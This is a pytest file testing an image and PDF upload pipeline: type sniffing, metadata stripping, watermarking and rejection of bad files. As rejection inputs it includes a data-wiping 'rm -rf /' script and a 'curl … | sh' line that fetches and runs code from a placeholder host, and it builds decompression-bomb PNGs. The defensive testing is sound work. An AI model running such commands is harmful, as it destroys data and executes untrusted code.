"""The document pipeline, with real Pillow, pillow-heif and PDFium on files made here."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pillow_heif
import pytest
from PIL import ExifTags, Image, ImageCms, PngImagePlugin

from uploads import images
from uploads.images import CjkFontMissing, Rejected, process, sniff

ROOT = Path(__file__).resolve().parent.parent
WATERMARK = "仅供“高龄津贴申领”办理使用 2026-11-23"
RED, BLUE, WHITE = (255, 0, 0), (0, 0, 255), (255, 255, 255)


# --- fixtures made on the spot ---------------------------------------------------------------


def encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **params)
    return buf.getvalue()


def decode(data: bytes) -> Image.Image:
    img = Image.open(io.BytesIO(data))
    img.load()
    return img


def photo(size: tuple[int, int] = (400, 300)) -> Image.Image:
    """A stored (sideways) frame: red block top-left, blue block bottom-left, grey elsewhere."""
    w, h = size
    img = Image.new("RGB", size, (128, 128, 128))
    img.paste(RED, (0, 0, w // 5, h // 5))
    img.paste(BLUE, (0, h - h // 5, w // 5, h))
    return img


def textured(size: tuple[int, int]) -> Image.Image:
    """Something with detail everywhere, like a photographed form."""
    rng = np.random.default_rng(7)
    w, h = size
    y, x = np.mgrid[0:h, 0:w]
    base = np.stack([x * 200 // w + 30, y * 200 // h + 30, np.full_like(x, 150)], axis=-1)
    noise = rng.integers(-12, 12, size=(h, w, 3))
    return Image.fromarray(np.clip(base + noise, 0, 255).astype(np.uint8))


def phone_jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # "rotate 90° clockwise to display"
    exif[ExifTags.Base.Make] = "yunbang-test-camera"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (29.0, 52.0, 7.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (121.0, 32.0, 40.0)
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>'
    return encode(photo(), "JPEG", quality=95, exif=exif.tobytes(), xmp=xmp,
                  comment=b"taken at resident's home")


def rgb(img: Image.Image, xy: tuple[int, int]) -> tuple[int, ...]:
    return img.convert("RGB").getpixel(xy)


def close_to(actual: tuple[int, ...], expected: tuple[int, ...], tol: int = 40) -> bool:
    return all(abs(a - e) <= tol for a, e in zip(actual, expected, strict=True))


def pixel_diff(a: Image.Image, b: Image.Image) -> np.ndarray:
    return np.abs(np.asarray(a, dtype=np.int16) - np.asarray(b, dtype=np.int16)).max(axis=-1)


def changed_share_per_tile(a: Image.Image, b: Image.Image, grid: int = 4) -> list[float]:
    """For each of grid×grid tiles, the share of pixels that clearly differ (by > 30)."""
    diff = pixel_diff(a, b)
    bands = np.array_split(diff, grid, axis=0)
    tiles = [tile for band in bands for tile in np.array_split(band, grid, axis=1)]
    return [float((tile > 30).mean()) for tile in tiles]


def assert_no_metadata(data: bytes) -> None:
    img = decode(data)
    assert len(img.getexif()) == 0
    assert not img.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    for marker in (b"Exif\x00\x00", b"yunbang-test-camera", b"ns.adobe.com/xap", b"xmpmeta",
                   b"resident's home", b"ICC_PROFILE", b"eXIf", b"tEXt", b"iTXt", b"zTXt"):
        assert marker not in data, marker


# --- sniffing ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "image/jpeg"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
        (b"RIFF\x24\x00\x00\x00WEBPVP8 ", "image/webp"),
        (b"%PDF-1.7\n", "application/pdf"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "image/heic"),
        (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic", "image/heic"),
        (b"\x00\x00\x00\x10ftypmsf1\x00\x00\x00\x00", "image/heic"),
        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf", None),
        (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1avif", None),
        (b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2", None),  # an MP4 video
        (b"GIF89a\x01\x00\x01\x00", None),
        (b"#!/bin/sh\nrm -rf /\n", None),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", None),
        (b"PK\x03\x04", None),
    ],
)
def test_sniff_decides_by_magic_bytes(head: bytes, expected: str | None) -> None:
    assert sniff(head) == expected


@pytest.mark.parametrize(
    "head", [b"", b"\xff", b"\xff\xd8", b"\x89PNG\r\n", b"RIFF\x00\x00\x00\x00WEB", b"%PDF",
             b"\x00\x00\x00\x18ftyp", b"\x00\x00\x00\x18ftypab"],
)
def test_sniff_handles_short_inputs(head: bytes) -> None:
    assert sniff(head) is None


def test_sniff_looks_at_bytes_and_nothing_else() -> None:
    import inspect

    assert list(inspect.signature(sniff).parameters) == ["head"]
    assert sniff(b"just text, even if someone named it photo.jpg") is None


# --- images ------------------------------------------------------------------------------------


def test_rotated_phone_photo_comes_out_upright_and_without_gps() -> None:
    data = phone_jpeg_with_gps()
    uploaded = decode(data)
    assert uploaded.size == (400, 300)
    assert uploaded.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the fixture really carries GPS

    result = process(data, watermark=WATERMARK)

    assert result.content_type == "image/jpeg"
    assert result.clean_content_type == "image/jpeg"
    assert result.original_sha256 == hashlib.sha256(data).hexdigest()
    assert (result.width, result.height) == (300, 400)
    assert result.page_count is None
    for blob in (result.clean_original, result.viewing, result.thumbnail):
        assert_no_metadata(blob)

    clean = decode(result.clean_original)
    assert clean.size == (300, 400)
    # Stored top-left ends up top-right; stored bottom-left ends up top-left.
    assert close_to(rgb(clean, (300 - 20, 20)), RED)
    assert close_to(rgb(clean, (20, 20)), BLUE)
    assert close_to(rgb(clean, (20, 400 - 20)), (128, 128, 128))
    thumb = decode(result.thumbnail)
    assert thumb.size == (240, 320)
    assert close_to(rgb(thumb, (240 - 12, 12)), RED, tol=60)


def test_watermark_covers_the_viewing_copy_and_not_the_clean_original() -> None:
    source = textured((1200, 900))
    data = encode(source, "JPEG", quality=95)

    plain = process(data)
    marked = process(data, watermark=WATERMARK)

    assert marked.clean_original == plain.clean_original  # deterministic, and unmarked
    viewing = changed_share_per_tile(decode(marked.viewing), decode(plain.viewing))
    assert sum(share > 0.01 for share in viewing) >= 15, viewing
    clean = changed_share_per_tile(decode(marked.clean_original), decode(data))
    assert max(clean) < 0.001, clean  # only re-encoding noise, no text
    assert pixel_diff(decode(marked.viewing), decode(plain.viewing)).mean() < 25  # translucent


def test_stored_copies_are_limited_to_their_long_sides() -> None:
    data = encode(textured((1600, 1000)), "JPEG", quality=90)

    result = process(data, long_side=1200, viewing_side=700, thumb_side=200)

    assert decode(result.clean_original).size == (1200, 750)
    assert decode(result.viewing).size == (600, 375)  # the 1200×750 original reduced by 2
    assert decode(result.thumbnail).size == (200, 125)
    assert (result.width, result.height) == (1600, 1000)  # the upload as the resident's photo


def test_a_photo_that_fits_keeps_every_pixel_everywhere_but_the_thumbnail() -> None:
    data = encode(textured((1600, 1000)), "JPEG", quality=90)

    result = process(data, long_side=1600, viewing_side=1600, thumb_side=200)

    assert decode(result.clean_original).size == (1600, 1000)
    assert decode(result.viewing).size == (1600, 1000)


def test_viewing_copy_averages_instead_of_dropping_pixels() -> None:
    """A one-pixel grid must turn grey in the reduced copy, not alias into stripes."""
    grid = Image.new("RGB", (1200, 800), WHITE)
    for x in range(0, 1200, 2):
        grid.paste((0, 0, 0), (x, 0, x + 1, 800))
    result = process(encode(grid, "PNG"), viewing_side=600)

    view = decode(result.viewing)
    assert view.size == (600, 400)
    values = [rgb(view, (x, 200))[0] for x in range(100, 110)]
    assert all(100 < v < 160 for v in values), values


def test_png_stays_png_flattened_onto_white_without_text_chunks() -> None:
    img = Image.new("RGBA", (200, 100), (0, 0, 0, 0))
    img.paste((255, 0, 0, 255), (0, 0, 100, 100))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "taken at resident's home")
    data = encode(img, "PNG", pnginfo=info)

    result = process(data)

    assert result.content_type == result.clean_content_type == "image/png"
    assert_no_metadata(result.clean_original)
    clean = decode(result.clean_original)
    assert clean.format == "PNG" and clean.mode == "RGB" and clean.size == (200, 100)
    assert rgb(clean, (50, 50)) == RED
    assert rgb(clean, (150, 50)) == WHITE  # transparency becomes paper, not black


def test_webp_is_accepted() -> None:
    data = encode(photo((300, 200)), "WEBP", quality=90)

    result = process(data)

    assert result.content_type == "image/webp"
    assert result.clean_content_type == "image/jpeg"
    assert (result.width, result.height) == (300, 200)
    assert close_to(rgb(decode(result.clean_original), (10, 10)), RED)


def test_heic_from_an_iphone_style_file_is_accepted() -> None:
    heif = pillow_heif.from_pillow(photo((320, 240)))
    buf = io.BytesIO()
    heif.save(buf, quality=90)
    data = buf.getvalue()
    assert sniff(data) == "image/heic"

    result = process(data, watermark=WATERMARK)

    assert result.content_type == "image/heic"
    assert result.clean_content_type == "image/jpeg"
    assert (result.width, result.height) == (320, 240)
    assert close_to(rgb(decode(result.clean_original), (10, 10)), RED)
    assert_no_metadata(result.clean_original)


def test_icc_profile_is_applied_then_dropped() -> None:
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encode(photo(), "JPEG", quality=95, icc_profile=srgb)
    assert b"ICC_PROFILE" in data

    result = process(data)

    assert_no_metadata(result.clean_original)
    assert "icc_profile" not in decode(result.clean_original).info
    assert close_to(rgb(decode(result.clean_original), (10, 10)), RED)


def test_phone_jpeg_with_a_second_frame_mpo_is_a_jpeg() -> None:
    data = encode(photo(), "MPO", save_all=True, append_images=[Image.new("RGB", (400, 300))])
    assert decode(data).format == "MPO"

    result = process(data)

    assert result.content_type == "image/jpeg"
    assert close_to(rgb(decode(result.clean_original), (10, 10)), RED)


def _palette_with_transparency() -> Image.Image:
    img = Image.new("P", (64, 64), 0)
    img.putpalette([255, 0, 0, 0, 0, 255])
    img.info["transparency"] = 0
    return img


@pytest.mark.parametrize(
    ("img", "fmt", "expected"),
    [
        (Image.new("L", (64, 64), 200), "PNG", (200, 200, 200)),
        (Image.new("1", (64, 64), 1), "PNG", WHITE),
        (Image.new("LA", (64, 64), (0, 0)), "PNG", WHITE),
        (_palette_with_transparency(), "PNG", WHITE),
        (Image.new("I;16", (64, 64), 65535), "PNG", WHITE),
        (Image.new("CMYK", (64, 64), (0, 255, 255, 0)), "JPEG", RED),
    ],
    ids=["grey", "bilevel", "grey-alpha", "palette-transparent", "16-bit-grey", "cmyk"],
)
def test_every_pixel_format_ends_up_as_plain_rgb(
    img: Image.Image, fmt: str, expected: tuple[int, int, int]
) -> None:
    result = process(encode(img, fmt))

    clean = decode(result.clean_original)
    assert clean.mode == "RGB"
    assert close_to(rgb(clean, (32, 32)), expected, tol=8)
    assert decode(result.viewing).mode == "RGB"


def test_truncated_heic_is_corrupt() -> None:
    heif = pillow_heif.from_pillow(textured((320, 240)))
    buf = io.BytesIO()
    heif.save(buf, quality=80)
    data = buf.getvalue()

    with pytest.raises(Rejected) as caught:
        process(data[: len(data) // 2])
    assert caught.value.code == "corrupt_file"


# --- PDF ---------------------------------------------------------------------------------------


def one_page_pdf() -> bytes:
    page = Image.new("RGB", (600, 800), WHITE)
    page.paste(RED, (0, 0, 150, 150))
    return encode(page, "PDF", resolution=72.0)


def test_pdf_keeps_the_file_and_renders_page_one() -> None:
    data = one_page_pdf()

    result = process(data, long_side=1024, watermark=WATERMARK)

    assert result.content_type == result.clean_content_type == "application/pdf"
    assert result.clean_original == data
    assert result.original_sha256 == hashlib.sha256(data).hexdigest()
    assert result.page_count == 1
    assert (result.width, result.height) == (600, 800)  # page 1 in points
    assert decode(result.viewing).size == (768, 1024)
    thumb = decode(result.thumbnail)
    assert thumb.size == (240, 320)
    assert close_to(rgb(thumb, (10, 10)), RED, tol=60)
    assert close_to(rgb(thumb, (230, 310)), WHITE, tol=60)


def test_pdf_page_count_counts_every_page() -> None:
    pages = [Image.new("RGB", (200, 300), c) for c in (RED, BLUE, WHITE)]
    data = encode(pages[0], "PDF", save_all=True, append_images=pages[1:])

    result = process(data, long_side=600)

    assert result.page_count == 3
    assert close_to(rgb(decode(result.thumbnail), (100, 150)), RED)


def test_garbage_with_a_pdf_header_is_unreadable() -> None:
    data = b"%PDF-1.7\n" + bytes(range(256)) * 20

    with pytest.raises(Rejected) as caught:
        process(data)
    assert caught.value.code == "pdf_unreadable"


def test_pdf_page_that_would_render_too_large_is_refused() -> None:
    with pytest.raises(Rejected) as caught:
        process(one_page_pdf(), long_side=4096, max_pixels=1_000_000)
    assert caught.value.code == "too_many_pixels"


# --- refusals ----------------------------------------------------------------------------------


def test_shell_script_named_jpg_is_unsupported() -> None:
    with pytest.raises(Rejected) as caught:
        process(b"#!/bin/sh\ncurl http://example.invalid/x | sh\n")
    assert caught.value.code == "unsupported_type"
    assert caught.value.message.startswith("不支持的文件类型")


def test_truncated_jpeg_is_corrupt() -> None:
    data = encode(textured((640, 480)), "JPEG", quality=90)

    with pytest.raises(Rejected) as caught:
        process(data[: len(data) // 2])
    assert caught.value.code == "corrupt_file"


def test_truncated_png_is_corrupt() -> None:
    data = encode(textured((320, 240)), "PNG")

    with pytest.raises(Rejected) as caught:
        process(data[: len(data) // 2])
    assert caught.value.code == "corrupt_file"


def test_png_signature_glued_onto_a_jpeg_is_unsupported() -> None:
    jpeg = encode(photo(), "JPEG")
    forged = b"\x89PNG\r\n\x1a\n" + jpeg

    assert sniff(forged) == "image/png"
    with pytest.raises(Rejected) as caught:
        process(forged)
    assert caught.value.code == "unsupported_type"


def test_png_uploaded_as_photo_jpg_is_treated_as_png() -> None:
    data = encode(photo(), "PNG")  # whatever the name or declared type said

    assert process(data).content_type == "image/png"


def test_image_over_the_pixel_limit_is_refused() -> None:
    with pytest.raises(Rejected) as caught:
        process(encode(photo(), "JPEG"), max_pixels=400 * 300 - 1)
    assert caught.value.code == "too_many_pixels"


@pytest.fixture(scope="module")
def bombs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Real PNGs that are a few KB on disk: 400 Mpx (over Pillow's own bomb limit) and
    49 Mpx (under Pillow's, over ours)."""
    out = tmp_path_factory.mktemp("bombs")
    paths = {}
    for name, side in (("huge", 20_000), ("large", 7_000)):
        path = out / f"{name}.png"
        Image.new("1", (side, side)).save(path, compress_level=1)
        paths[name] = path
    return paths


def test_decompression_bombs_are_refused_from_the_header_alone(bombs: dict[str, Path]) -> None:
    assert bombs["huge"].stat().st_size < 300_000
    script = """
import json, resource, sys, time
from uploads.images import Rejected, process
out = {}
for path in sys.argv[1:]:
    data = open(path, "rb").read()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    try:
        process(data)
        code = None
    except Rejected as exc:
        code = exc.code
    out[path] = {"code": code, "seconds": time.perf_counter() - started,
                 "grew_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before}
print(json.dumps(out))
"""
    done = subprocess.run(
        [sys.executable, "-c", script, str(bombs["huge"]), str(bombs["large"])],
        cwd=ROOT, capture_output=True, text=True, timeout=60, check=True,
    )
    report = json.loads(done.stdout)
    for path in (bombs["huge"], bombs["large"]):
        entry = report[str(path)]
        assert entry["code"] == "too_many_pixels", entry
        assert entry["seconds"] < 0.5, entry
        assert entry["grew_kb"] < 20_000, entry  # decoding would take 49 MB or 400 MB


def test_rejections_carry_stable_codes_and_chinese_messages() -> None:
    for code in ("unsupported_type", "corrupt_file", "too_many_pixels", "pdf_unreadable"):
        exc = Rejected(code)
        assert exc.code == code
        assert any("\u4e00" <= ch <= "\u9fff" for ch in exc.message)


# --- fonts -------------------------------------------------------------------------------------


def test_find_cjk_font_prefers_debian_noto() -> None:
    path = images.find_cjk_font()

    assert os.path.isfile(path)
    if os.path.exists("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc"):
        assert path == "/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc"


def test_missing_cjk_font_names_the_package_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    latin = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
    if not latin.exists():
        pytest.skip("no Latin-only font to stand in")
    shutil.copy(latin, tmp_path / latin.name)
    monkeypatch.setattr(images, "_CJK_FONT_CANDIDATES", ())
    monkeypatch.setattr(images, "_FONT_DIRS", (str(tmp_path),))
    images.find_cjk_font.cache_clear()
    try:
        with pytest.raises(CjkFontMissing, match="apt-get install fonts-noto-cjk"):
            images.find_cjk_font()
        with pytest.raises(CjkFontMissing, match="apt-get install fonts-noto-cjk"):
            process(encode(photo(), "JPEG"), watermark=WATERMARK, font_path=str(latin))
    finally:
        images.find_cjk_font.cache_clear()
